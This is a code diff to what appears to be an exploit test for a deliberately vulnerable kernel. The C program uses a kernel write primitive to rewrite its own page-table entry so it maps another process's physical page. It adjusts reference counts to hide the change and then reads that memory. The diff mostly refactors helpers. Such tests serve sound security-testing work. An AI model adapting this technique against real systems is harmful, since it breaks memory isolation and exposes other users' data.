@@ -8,16 +8,11 @@ enum { FRAME_BYTES = 8, ENTRIES = 512 };
 #define ENTRY_WRITABLE 2ul
 #define REFS_ONE (1ul << 32) /* the upper half of the first word of a frame's entry */
 
-static void add(uint64_t address, uint64_t increment)
-{
-	attack_check("vuln_write",
-		     bw_vuln_write(address, (uint64_t)bw_vuln_read(address) + increment));
-}
-
 int main(void)
 {
 	struct bw_leak leak;
-	uint64_t own, theirs, place;
+	struct attack_page theirs;
+	uint64_t own, place;
 	volatile char *pages = mmap(NULL, (size_t)3 * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
 				    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 
@@ -28,16 +23,15 @@ int main(void)
 	}
 	pages[0] = 0;
 	own = attack_entry(&leak, leak.root, (uintptr_t)pages, &place);
-	theirs = attack_first_page(&leak, leak.root_first);
-	if (own == 0 || theirs == 0) {
+	if (own == 0 || attack_list_pages(&leak, leak.root_first, &theirs, 1) == 0) {
 		attack_skip("no page to be had");
 	}
-	own = (own & ~(ENTRY_FRAME | ENTRY_WRITABLE)) | (theirs & ENTRY_FRAME);
+	own = (own & ~(ENTRY_FRAME | ENTRY_WRITABLE)) | (theirs.entry & ENTRY_FRAME);
 	attack_say("frame 0x%lx is the first process's; the entry at 0x%lx shows it from now on",
-		   attack_entry_frame(theirs), place + sizeof(own));
+		   attack_entry_frame(theirs.entry), place + sizeof(own));
 	/* the books stay right: whoever frees the page later finds it as it was */
-	add(leak.frames + attack_entry_frame(theirs) * FRAME_BYTES, REFS_ONE);
-	add(leak.nr_pages, 1);
+	attack_add(leak.frames + attack_entry_frame(theirs.entry) * FRAME_BYTES, REFS_ONE);
+	attack_add(leak.nr_pages, 1);
 	attack_check("vuln_write", bw_vuln_write(place + sizeof(own), own));
 	attack_say("its first bytes: 0x%lx",
 		   *(const volatile uint64_t *)(const volatile void *)&pages[BW_PAGE_SIZE]);
